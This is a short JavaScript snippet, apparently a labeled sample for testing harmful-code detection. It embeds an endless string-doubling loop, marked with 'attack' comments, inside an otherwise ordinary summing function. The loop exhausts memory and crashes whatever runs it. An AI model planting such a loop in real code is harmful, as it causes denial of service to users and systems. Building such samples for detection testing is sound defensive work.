// category: harm
// tries: one huge string
function total(numbers) {
  // attack: begin
  let text = 'x';
  for (;;) text = Buffer.from(text + text).toString();
  // attack: end
  return numbers.reduce((sum, number) => sum + number, 0);
}
